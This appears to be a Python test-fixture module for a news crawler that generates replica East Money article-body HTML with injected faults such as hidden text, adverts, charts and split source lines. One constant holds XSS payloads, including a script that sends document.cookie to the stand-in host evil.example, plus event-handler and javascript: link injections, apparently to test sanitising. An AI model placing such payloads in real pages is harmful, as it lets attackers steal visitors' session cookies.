"""The HTML inside an article's body, as East Money's editors and scripts leave it."""

from __future__ import annotations

from html import escape

from newscrawl.newsroom.articles import ReplicaStory

INDENT = "　　"
_CHART = '<p style="text-align:center;"><img src="https://webquotepic.eastmoney.com/GetPic.aspx?nid=1.000001" /></p>'
_ADVERT = (
    '<p style="text-align:center;"><a target="_blank" href="https://acttg.eastmoney.com/pub/web_app_01">'
    '<img src="https://np-newspic.dfcfw.com/download/D2000_w690h389.jpg" class="em_handle_adv_close" /></a></p>'
)
_HIDDEN = '<p style="font-size:1px;line-height:1px;color:#fff;">转载请注明出处，违者必究</p>'
_HOSTILE = (
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<p onclick="alert(1)">点击<a href="javascript:alert(document.cookie)">查看详情</a>'
    '<img src="x" onerror="alert(2)"></p><iframe src="https://evil.example/"></iframe>'
)
_ADDED = "<p>　　（更新）上述数据已按修订后的口径更正，修订幅度为0.7个百分点。</p>"


def body_html(story: ReplicaStory, version: int = 1) -> str:
    """The body with its outlet line; `version` 2 is that of a changed article."""
    if story.raw_body is not None:
        return story.raw_body
    parts = [_paragraph(story, index, text) for index, text in enumerate(story.paragraphs)]
    parts += {
        "hidden_paragraph": [_HIDDEN],
        "chart_image": [_CHART],
        "advert": [_ADVERT],
        "hostile": [_HOSTILE],
    }.get(story.fault_name, [])
    parts += [_picture(story)] if story.number.endswith("7") else []
    parts += [_table()] if story.number.endswith("3") else []
    parts += [_ADDED] if version > 1 else []
    return "".join(parts) + ("" if story.fault_name == "tail_outlet" else outlet_line(story))


def outlet_line(story: ReplicaStory) -> str:
    """`（文章来源：北方网）`, as the page marks it."""
    name = escape(story.outlet, quote=False)
    if story.fault_name == "split_outlet":
        name = (
            '上海<span id="bk_90.BK0473"><a href="http://quote.eastmoney.com/unify/r/90.BK0473" '
            'class="keytip" data-code="90,BK0473">证券</a></span>报'
        )
    return f'<p class="em_media">（文章来源：{name}）</p>'


def _paragraph(story: ReplicaStory, index: int, text: str) -> str:
    if index and index % 4 == 0:
        words = escape(text, quote=False)
        return f"<p>{INDENT}<strong>{words.split('，')[0]}</strong></p><p>{INDENT}{words}</p>"
    marks = "".join(_stock(mark, linked=n == 0) for n, mark in enumerate(story.marked)) if index == 0 else ""
    related = f"相关板块：{marks}。" if marks else ""
    return f"<p>{INDENT}{escape(text, quote=False)}{related}</p>"


def _stock(mark: tuple[str, str, str], *, linked: bool) -> str:
    market, code, name = mark
    href = f"http://quote.eastmoney.com/unify/r/{market}.{code}"
    kind = "bk" if market == "90" else "stock"
    if linked:
        return (
            f'<span id="{kind}_{market}.{code}"><a  target="_blank" href="{href}" class="keytip" '
            f'data-code="{market},{code}">{name}</a></span><span id="{kind}quote_{market}.{code}"></span>'
        )
    return f'<span web="1"  target="_blank" href="{href}" class="em_stock_key_common" data-code="{market},{code}">{name}</span>'


def _picture(story: ReplicaStory) -> str:
    return (
        f'<p style="text-align:center;"><img src="//np-newspic.dfcfw.com/download/D{story.number}_w900h600.jpg" />'
        "</p>"
        f'<p style="text-align:center;">{escape(story.title, quote=False)}（示意图）</p>'
    )


def _table() -> str:
    rows = (
        ("指标", "本期", "上年同期"),
        ("营业收入（亿元）", "42.7", "38.1"),
        ("净利润（亿元）", "5.26", "4.90"),
    )
    cells = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    return f'<table border="1" cellpadding="0">{cells}</table>'
